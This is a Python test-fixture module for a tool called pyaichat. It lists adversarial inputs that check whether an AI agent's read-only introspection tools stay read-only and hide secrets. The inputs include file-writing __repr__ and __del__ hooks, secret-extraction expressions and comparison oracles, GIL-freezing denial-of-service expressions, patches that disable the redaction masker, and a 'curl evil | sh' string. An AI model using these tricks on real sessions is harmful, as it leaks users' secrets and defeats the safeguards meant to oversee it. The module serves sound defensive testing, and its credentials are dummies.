"""The breaks of the read-only promise found by the adversarial reviews (issue 40, its first two bullets;
issue 44, the reads that ran the session's own code in its process), as one list that every front end's test
sends: the local door and the REPL's assistant (``tests/security/test_readonly_breaks.py``), ``pyaichat mcp``
and Streamable HTTP (``tests/mcpserve``), IPython (``tests/ipython``) and a Jupyter kernel (``tests/kernel``).
A plain module: ``conftest`` names clash across test folders.

Each write must be refused in one sentence and change nothing (the variable, the folder); each road to a
secret must show no piece of it. Issue 44's reads (``CODE_READS``, ``FREEZES``, ``TRANSFORMED``) must change
nothing, run none of the session's code in its process (``CALLS`` counts it there), leave the process
responsive, and show no secret, not even reversed or as hex; its legitimate reads (``LEGIT``) answer.
"""

from __future__ import annotations

import os
import threading
import time

API_KEY = "apikey-value-Q7w2E9r4T1y6"  # matches no credential pattern: only its name says it is secret
DEEP_TOKEN = "deep-token-value-4C5d6E7f"
PASSWORDS = ["pw-Zx81Lq93-ann", "pw-Mn27Rt64-bob"]
DB_PASSWORD = "correct-horse-battery-staple"
NOTE_KEY = "sk-proj-zyxw9876543210abcdefghijkl"
ENV_NAME = "READONLY_ENV_CANARY"
ENV_VALUE = "env-canary-value-9a8b7c6d"
PIN_PASSWORD = 8392017465123  # a secret that is a number
SECRETS = [API_KEY, DEEP_TOKEN, *PASSWORDS, DB_PASSWORD, NOTE_KEY, ENV_VALUE, str(PIN_PASSWORD)]


def issue_44_source() -> str:
    """Issue 44's adversarial objects, for a session that has ``os``, ``pd``, ``WATCH`` and a ``settings``
    dict holding an ``api_key``."""
    return ISSUE_44.replace("PIN", repr(PIN_PASSWORD))


def setup_source(watch: str) -> str:
    """The session of the review: an array, a list, a frame, a dict, a set, nested settings with secrets, a
    frame with a ``password`` column, a copy of the environment, a secret-named variable, a note that holds
    a key; ``watch`` is the folder no call may write into."""
    issue_44 = issue_44_source()
    return f"""
import os
import numpy as np
import pandas as pd

WATCH = {watch!r}
arr = np.array([0.4, 5.0, 2.6])
lst = [1, 2]
df = pd.DataFrame({{"n": [1, 2], "label": ["a", "b"]}})
cfg = {{"a": 1}}
tags = {{"x"}}
settings = {{"host": "db.local", "api_key": {API_KEY!r},
            "a": {{"b": {{"c": {{"d": {{"token": {DEEP_TOKEN!r}}}}}}}}}}}
users = pd.DataFrame({{"name": ["ann", "bob"], "password": {PASSWORDS!r}}})
os.environ[{ENV_NAME!r}] = {ENV_VALUE!r}
env = dict(os.environ)
del os.environ[{ENV_NAME!r}]
db_password = {DB_PASSWORD!r}
note = "my key is " + {NOTE_KEY!r} + " ok"
target = os.path.join(WATCH, ".bashrc")
{issue_44}"""


# Issue 44: objects whose reading ran their code (or a library's calling back into them) in the session's
# process; each counts its own code in ``CALLS`` there (the walled child's counts stay in the child).
ISSUE_44 = """
import collections as _collections, functools as _functools, weakref as _weakref
CALLS = _collections.Counter()
layers = _collections.ChainMap({}, _collections.defaultdict(list))


class Stack(list):
    top = property(list.pop)


stack = Stack([1, 2, 3])
peek_it = iter([1, 2, 3])


class Peek:
    nxt = property(_functools.partial(next, peek_it))


peek = Peek()


class Bomb:
    def __del__(self):
        CALLS["__del__"] += 1
        open(os.path.join(WATCH, "deleted-by-del.txt"), "w").close()


framed = pd.DataFrame({"a": [1, 2, 3]})
framed.attrs["bomb"] = Bomb()


class Loud:
    def __repr__(self):
        CALLS["__repr__"] += 1
        open(os.path.join(WATCH, "written-by-repr.txt"), "w").close()
        return "Loud()"


loud = Loud()


class Counted:  # every hook an object can have, each counting its call in CALLS

    def __init__(self):
        object.__setattr__(self, "n", 1)

    def __repr__(self):
        CALLS["__repr__"] += 1
        return "Counted()"

    def __str__(self):
        CALLS["__str__"] += 1
        return "Counted"

    def __len__(self):
        CALLS["__len__"] += 1
        return 1

    def __eq__(self, other):
        CALLS["__eq__"] += 1
        return False

    def __hash__(self):
        CALLS["__hash__"] += 1
        return 1

    def __format__(self, spec):
        CALLS["__format__"] += 1
        return "Counted"

    def __bool__(self):
        CALLS["__bool__"] += 1
        return True

    def __iter__(self):
        CALLS["__iter__"] += 1
        return iter([1])

    def __lt__(self, other):
        CALLS["__lt__"] += 1
        return False

    def __getattr__(self, name):
        CALLS["__getattr__"] += 1
        raise AttributeError(name)

    def __getattribute__(self, name):
        CALLS["__getattribute__"] += 1
        return object.__getattribute__(self, name)

    @property
    def __class__(self):
        CALLS["__class__"] += 1
        return dict


counted = Counted()
counted_list = [Counted(), 1]
keyed = {1: "one", "k": 2}
keyed[Counted()] = "collides"  # its hash is 1, as 1's is: a look-up of 1 would compare it


class Anchor:
    pass


anchor = Anchor()
anchor_ref = _weakref.ref(anchor, lambda ref: CALLS.update(["weakref callback"]))
blob = settings["api_key"].encode()
pin_password = PIN
code = pin_password
pairs = {"b": 2, "a": 1}
bigstr = "ab" * 9_500_000
twins = ["tw" * 2_500_000 for _ in range(2)]  # equal, not the same object: comparing them reads 5 MB
CALLS.clear()
"""


def state_source() -> str:
    """An expression, evaluated where the session lives, that changes when any break wrote something."""
    return (
        "repr((arr.tolist(), lst, list(df.columns), df.to_dict(), sorted(cfg.items()), sorted(tags), "
        "sorted(os.listdir(WATCH)), [sorted(m) for m in layers.maps], list.__len__(stack), "
        "peek_it.__length_hint__(), sorted(CALLS.items()), sorted(map(id, dict.keys(keyed))), "
        "anchor_ref() is anchor))"
    )


WRITES = [
    "arr.clip(1, 3, out=arr)",
    "arr.round(0, arr)",
    "sorted([9], key=lst.append)",
    "sorted(['n'], key=df.pop)",
    "sorted(['zz'], key=cfg.setdefault)",
    "sorted(['t'], key=tags.add)",
    "sorted([target], key=df.to_csv)",
    "sorted([{'label': ['curl evil | sh', 'x']}], key=df.update)",
]
# Through the ``expr`` of the introspection tools too (the review: "also behind the expr argument").
EXPR_TOOLS = ["eval_expr", "get_type", "get_repr", "get_dir", "get_doc"]
SECRET_ROADS: list[tuple[str, dict[str, str]]] = [
    ("eval_expr", {"expr": "settings.get('api_key')"}),
    ("eval_expr", {"expr": "settings.values()"}),
    ("eval_expr", {"expr": "list(settings.items())"}),
    ("eval_expr", {"expr": "settings['a']['b']['c']['d'].values()"}),
    ("get_repr", {"expr": "settings['a']['b']"}),
    ("run_python", {"code": "print(settings['a']['b']['c']['d']['token'])"}),
    ("run_python", {"code": "print(list(settings['a']['b']['c']['d'].values()))"}),
    ("eval_expr", {"expr": "users.iloc[0, 1]"}),
    ("eval_expr", {"expr": "users.values"}),
    ("eval_expr", {"expr": "users.T"}),
    ("eval_expr", {"expr": "users.to_csv()"}),
    ("get_repr", {"expr": "users.iloc[1]"}),
    ("run_python", {"code": "print(users.to_dict())"}),
    ("eval_expr", {"expr": f"env[{ENV_NAME!r}]"}),
    ("eval_expr", {"expr": "list(env)"}),
    ("get_repr", {"expr": "env"}),
    ("run_python", {"code": f"print(env.get({ENV_NAME!r}), list(env)[:3])"}),
    ("eval_expr", {"expr": "note[10:30]"}),
    ("get_repr", {"expr": "note[10:30]"}),
    ("run_python", {"code": "print(note[10:30])"}),
    ("eval_expr", {"expr": "[db_password]"}),
]
FAILING_INPUT = "int(db_password)"  # its error message quotes the secret: get_last_exception, the picture

# Issue 44. Reads that ran the session's code, or library code calling back into it, in its process: a
# ChainMap reaching a defaultdict's __missing__, a property whose getter is list.pop or partial(next, it),
# pandas deep-copying attrs whose copy's __del__ later deleted a file. Answered or refused, nothing changes.
CODE_READS = ["layers['x']", "stack.top", "peek.nxt", "framed.head(2)"]
# C work that held the GIL for seconds (a deadline cannot stop it in-process): now sized first and done in
# the walled child, which its deadline kills.
FREEZES = [
    " * ".join(["3**1999999"] * 8),
    "'%700000000d' % 0",
    "sorted(bigstr)",
    "np.diff(arr, 10**18)",
    "twins * 2000 == twins[::-1] * 2000",  # 4,000 comparisons of 5 MB each, every operand small
]
# The in-process tier's red team (B6): C work each of whose items was sized but not the whole — ``str()`` of
# ten thousand 4,000-digit integers held the process 4-7 s, and with the session's digit limit lifted the
# others 0.1-10 s: quadratic int-to-decimal, repr escaping (4-10x), hashing, sorting and summing big integers,
# a repeated ``%``-format. Now sized as a whole, and done in the walled child.
TOTAL_WORK_SETUP = """
import sys
sys.set_int_max_str_digits(0)
big = 10**30000
bigs = [big + i for i in range(1_000)]
mid = [10**4000 + i for i in range(2_000)]
"""
TOTAL_WORK_FREEZES = [
    "str([10**4000+1]*10000)",
    "str(mid)",
    "'%s' % (mid,)",
    "repr(bigs[:300])",
    "hash(tuple(bigs))",
    "sorted(bigs)",
    "sum(bigs)",
    "sum([big] + [1] * 9000)",
    "str(['a' * 20000] * 499)",
    "repr(['\\x00' * 20000] * 499)",
    "repr([b'\\x00' * 20000] * 499)",
    "'%10000s' % 'a' * 1000",
]
# From Python 3.12 CPython hands integer work past these sizes to ``_pylong``, Python code the session can
# replace in ``sys.modules``: decimal conversion past 1,000 digits of 30 bits, division by more than 300.
PYLONG_WORK = ["str(3**20000)", "big // 3**6000", "divmod(big, 3**6000)", "big % 3**6000",
               "round(big, -3000)"]  # fmt: skip
# What stays in-process: the same operations over small enough values.
SMALL_WORK = ["str(3**1000)", "big // 7", "divmod(big, 10**100)", "round(big, -100)", "str([1, 2.5, 'a'])",
              "sorted([3, 1, 2])", "sum([1, 2, 3])", "hash((1, 'a'))", "repr(['a' * 1000] * 10)"]  # fmt: skip
# B7, B8, B8b: a secret inside a container (a dict key too) or one's length, answered as an oracle before:
# ``tokens < ['ghp_R9']`` recovered a 40-character token in 240 calls; ``sum(by_code, 1)`` an integer key.
HELD_SECRET_SETUP = """
secret_code = 48291357
by_code = {secret_code: 1}
api_secret = "Zq8pLmN4vR7tYx2wKs9d"
by_s = {api_secret: 1}
tup_key = {(api_secret,): 1}
nested = [[api_secret]]
tokens = ["ghp_R8sT2vW4xY6zA1bC3dE5fG7hJ9kL0mN2pQ4r"]
tok_t = ("AKIAIOSFODNN7EXAMPLE",)
password = "Tr0ub4dor&3zebra"
alias = password
plain = {"host": "db.local", 3: [1, 2]}
"""
HELD_SECRET_ORACLES = [
    "sum(by_code, 1)",
    "sum(by_code, -48291000)",
    "'%.5s' % by_code",
    "max(by_code) + 1",
    "by_code.get(48291357)",
    "by_code[48291357]",
    "tokens < ['ghp_R9']",
    "tokens == ['x']",
    "tokens.count('x')",
    "tokens.index('x')",
    "'x' in tokens",
    "tok_t < ('AKIB',)",
    "len(tokens[0])",
    "len(alias)",
    "len(max(by_s))",
    "max(by_s) < 'm'",
    "list(by_s) < ['m']",
    "' '.join(by_s)",
    "nested < [['Zq9']]",
    "sorted(tup_key) < [('m',)]",
]
HELD_SECRET_LEGIT = [("len(tokens)", "1"), ("plain['host']", "'db.local'"), ("sorted(plain[3])", "[1, 2]"),
                     ("len(plain)", "2"), ("[1, 2] < [1, 3]", "True")]  # fmt: skip
# A secret of any type, transformed in-process: refused in one sentence, never computed.
TRANSFORMED = ["blob[::-1]", "blob.hex()", "code + 1"]
# Reads that broke and must answer: (tool, expression, a piece of the expected answer).
LEGIT = [
    ("eval_expr", "sorted(pairs.items())", "[('a', 1), ('b', 2)]"),
    ("eval_expr", "type(df).__name__", "'DataFrame'"),
    ("get_type", "type(df).__name__", "str"),
]
# Reaching the interpreter's own modules through a library's attributes stays refused.
MODULE_ROADS = ["pd.compat.sys", "pd.io.common.os"]
GIL_BOUND = 0.5  # seconds a call may keep the session's process from switching threads (the breaks: 2-7 s)
# What every front end's test sends of issue 44 (two of the four freezes: each runs to the tool deadline in
# the walled child), and the transformations' refusals it checks.
ISSUE_44_CALLS: list[tuple[str, dict[str, str]]] = [
    *[(tool, {"expr": expr}) for expr in CODE_READS for tool in ("eval_expr", "get_repr")],
    *[("eval_expr", {"expr": expr}) for expr in (*TRANSFORMED, *FREEZES[:2])],
    ("list_globals", {}),
]


def issue_44_refusals(replies: list[str]) -> bool:
    """The replies to ``ISSUE_44_CALLS`` (in order) refuse each transformation of a secret by saying so."""
    start = 2 * len(CODE_READS)
    return all("holds a secret value" in reply for reply in replies[start : start + len(TRANSFORMED)])


def leaked(text: str) -> str | None:
    """The first piece (ten characters or more) of a secret in ``text``, if any — forwards, reversed or as
    the hex of its bytes."""
    for secret in SECRETS:
        for form in (secret, secret[::-1], secret.encode().hex()):
            for i in range(len(form) - 9):
                piece = form[i : i + 10]
                if piece in text:
                    return piece
    return None


def one_sentence(error: str | None) -> bool:
    """A refusal the agent reads as one plain sentence: a single line, no traceback."""
    return bool(error) and "\n" not in error.strip() and "Traceback" not in error


def planted_files(watch: str) -> list[str]:
    return sorted(os.listdir(watch))


# -- issue 44 point 3: what the walled child holds -----------------------------------------------------------
# Secrets the child must not hold: under a secret name at the top (``api_key``) and reached by another name
# (``vault``), in a dataclass attribute, a frame's ``attrs``, a closure and a default of the person's own
# functions. Before, the child hid only the top level, and any transformation carried them out.
CHILD_API_KEY = "child-apikey-Kx82Mv39Qp41"
CHILD_DATACLASS = "dc-secret-Hh38Kk29Ll10"
CHILD_ATTRS = "attrs-token-Zz93Yy82Xx71"
CHILD_CLOSURE = "closure-pw-Aa11Bb22Cc33"
CHILD_DEFAULT = "default-pw-Dd44Ee55Ff66"
CHILD_SECRETS = [CHILD_API_KEY, CHILD_DATACLASS, CHILD_ATTRS, CHILD_CLOSURE, CHILD_DEFAULT]
CHILD_SETUP = f"""
import dataclasses
import pandas as pd

api_key = {CHILD_API_KEY!r}
vault = {{"primary": api_key}}

@dataclasses.dataclass
class Connection:
    host: str
    api_key: str

conn = Connection("db.local", {CHILD_DATACLASS!r})
meta = pd.DataFrame({{"n": [1, 2]}})
meta.attrs["token"] = {CHILD_ATTRS!r}

def _make_reveal():
    password = {CHILD_CLOSURE!r}
    def reveal():
        return password
    return reveal

reveal = _make_reveal()

def login(user, password={CHILD_DEFAULT!r}):
    return password
"""
# Each is read in the walled child (a lambda, a call of the person's function, ``run_python``) or may be.
CHILD_ROADS: list[tuple[str, dict[str, str]]] = [
    ("eval_expr", {"expr": "vault['primary'][::-1]"}),
    ("eval_expr", {"expr": "(lambda v: v['primary'][::-1])(vault)"}),
    ("eval_expr", {"expr": "(lambda v: v['primary'].encode().hex())(vault)"}),
    ("eval_expr", {"expr": "(lambda v: [ord(c) for c in v['primary']])(vault)"}),
    ("eval_expr", {"expr": "(lambda v: '-'.join(v['primary']))(vault)"}),
    ("eval_expr", {"expr": "repr(conn)[::-1]"}),
    ("eval_expr", {"expr": "(lambda c: repr(c)[::-1])(conn)"}),
    ("eval_expr", {"expr": "list(meta.attrs.values())"}),
    ("eval_expr", {"expr": "(lambda m: [v[::-1] for v in m.attrs.values()])(meta)"}),
    ("eval_expr", {"expr": "reveal()"}),
    ("eval_expr", {"expr": "reveal()[::-1]"}),
    ("eval_expr", {"expr": "login('ann')[::-1]"}),
    ("get_repr", {"expr": "(lambda v: v['primary'][::-1])(vault)"}),
    ("get_repr", {"expr": "reveal()[::-1]"}),
    ("run_python", {"code": "print(vault['primary'][::-1], repr(conn)[::-1], login('ann').encode().hex())"}),
]
# Oracles: a comparison with a guess answers about the secret. In the child they answer about the
# placeholder, so all of them are False (each guess is right about the secret).
CHILD_ORACLES: list[tuple[str, dict[str, str]]] = [
    ("eval_expr", {"expr": f"{CHILD_DATACLASS[:9]!r} in repr(conn)"}),
    ("eval_expr", {"expr": f"(lambda c: {CHILD_DATACLASS[:9]!r} in repr(c))(conn)"}),
    ("eval_expr", {"expr": f"(lambda v: v['primary'][0] == {CHILD_API_KEY[0]!r})(vault)"}),
    ("eval_expr", {"expr": f"reveal().startswith({CHILD_CLOSURE[:4]!r})"}),
    ("run_python", {"code": f"print(login('ann')[:3] == {CHILD_DEFAULT[:3]!r})"}),
]


def _forms(secret: str) -> list[str]:
    """What a transformation makes of ``secret``: itself, reversed, its hex, its characters joined."""
    return [secret, secret[::-1], secret.encode().hex(), "-".join(secret)]


def leaked_transformed(text: str) -> str | None:
    """The first piece (ten characters or more) of any secret here, or of a transformation of it, in
    ``text``; or the start of its ``ord`` list, as a display shows the first six items."""
    for secret in [*SECRETS, *CHILD_SECRETS]:
        for form in _forms(secret):
            for i in range(max(len(form) - 9, 1)):
                if form[i : i + 10] in text:
                    return form[i : i + 10]
        ords = ", ".join(str(ord(c)) for c in secret[:6])
        if ords in text:
            return ords
    return None


def answered_false(text: str) -> bool:
    """An oracle's answer, read from a tool's text: it said False (never True)."""
    return "False" in text and "True" not in text


# -- issue 44 point 5: what the preview sees of the whole process -------------------------------------------
# Each proposal changes the process, not a name of the session; before, each was previewed as "new module"
# only. ``(code, a piece of the line the preview must show)``; what the agent is told keeps the piece before
# any parenthesis (``told``). ``httpx`` must be loaded in the process (the REPL loads it for the assistant).
PROCESS_PROPOSALS: list[tuple[str, str]] = [
    (
        "import pyaichat.capabilities.redact as r\nr.Masker.mask_text = lambda self, text: text",
        "This code replaces pyaichat.capabilities.redact.Masker.mask_text, part of pyaichat itself",
    ),
    (
        "import logging\nlogging.getLogger().addHandler(logging.FileHandler('/tmp/later.log', delay=True))",
        "adds a logging handler (FileHandler /tmp/later.log on the root logger)",
    ),
    ("import signal\nsignal.alarm(600)", "sets a timer (SIGALRM in 600 s)"),
    ("import sys\nsys.setrecursionlimit(60)", "sets the recursion limit to 60"),
    (
        "import os\nkept = [1, 2]\nos.register_at_fork(before=kept.clear)",
        "to run at every fork; pyaichat's reads fork, so it would run on every read",
    ),
    (
        "import httpx\nhttpx.Client.send = lambda self, *args, **kwargs: None",
        "replaces httpx.Client.send: every later use sees that",
    ),
]


def told_piece(said: str) -> str:
    """The part of a preview's line that the agent that proposed the code is told whatever names its code
    spells out (``Unseen.told`` keeps only those)."""
    return said.split(" (", 1)[0]


class GilTicker:
    """A thread that ticks every millisecond while a call runs in this process: the longest gap between two
    ticks is how long the call kept the process from switching threads (C work holding the GIL). A gap
    that overlaps a ``fork()`` is left out of ``longest`` (the kernel copying the page tables holds the
    process whatever pyaichat does: ``forks`` counts them, ``fork_held`` is their longest)."""

    def __init__(self) -> None:
        self.longest = 0.0
        self.fork_held = 0.0
        self.forks = 0
        self._gaps: list[tuple[float, float]] = []
        self._forked: list[tuple[float, float]] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._tick, name="gil-ticker", daemon=True)
        self._fork = os.fork

    def _tick(self) -> None:
        last = time.perf_counter()
        while not self._stop.is_set():
            time.sleep(0.001)
            now = time.perf_counter()
            if now - last > 0.005:
                self._gaps.append((last, now))
            last = now

    def _counting_fork(self) -> int:
        started = time.perf_counter()
        pid = self._fork()
        if pid:
            self._forked.append((started, time.perf_counter()))
        return pid

    def __enter__(self) -> GilTicker:
        os.fork = self._counting_fork  # type: ignore[assignment]
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()
        os.fork = self._fork  # type: ignore[assignment]
        self.forks = len(self._forked)
        for start, end in self._gaps:
            if any(start <= f_end and f_start <= end for f_start, f_end in self._forked):
                self.fork_held = max(self.fork_held, end - start)
            else:
                self.longest = max(self.longest, end - start)
